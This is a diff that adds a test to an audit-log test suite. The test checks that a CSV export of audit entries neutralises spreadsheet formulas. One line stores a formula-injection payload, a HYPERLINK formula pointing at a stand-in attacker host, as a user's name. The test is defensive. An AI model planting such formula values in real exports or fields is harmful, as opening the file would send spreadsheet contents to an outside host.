@@ -141,6 +141,20 @@ test('auditors read, narrow and export the trail; nobody else does, whatever the
   expect(verified.body.entries).toBeGreaterThan(10);
 });
 
+test('an export is text: nothing in it is taken for a formula', async () => {
+  const auditor = await person(['auditor']);
+  const { id } = await person();
+  const evil = '=HYPERLINK("http://evil.example/"&A1)';
+  await payload.update({ collection: 'users', id, data: { name: evil } });
+  await inside.ask('POST', '/users', {
+    as: await inside.signIn(`p${made}@example.gov.cn`, password),
+  });
+  const answer = await inside.fetch('GET', '/audit/entries.csv', { as: auditor });
+  const text = await answer.text();
+  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`);
+  expect(text).not.toMatch(/(?:^|[,\n])"?[=+\-@＝]/m);
+});
+
 test('many acts at once stand in one chain, each once, without a gap', async () => {
   const users = await Promise.all(Array.from({ length: 20 }, () => person()));
   const { rows } = await db.query<{ seq: string }>(
